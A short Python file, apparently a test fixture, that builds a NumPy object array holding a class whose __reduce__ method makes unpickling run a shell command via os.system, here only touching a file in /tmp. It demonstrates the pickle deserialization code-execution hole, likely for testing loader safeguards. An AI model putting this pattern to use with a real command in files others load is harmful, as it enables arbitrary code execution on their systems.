"""An array of objects whose unpickling would run a command."""
import numpy as np


class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/broken-through",)


def attack():
    return np.array([Bomb()], dtype=object)
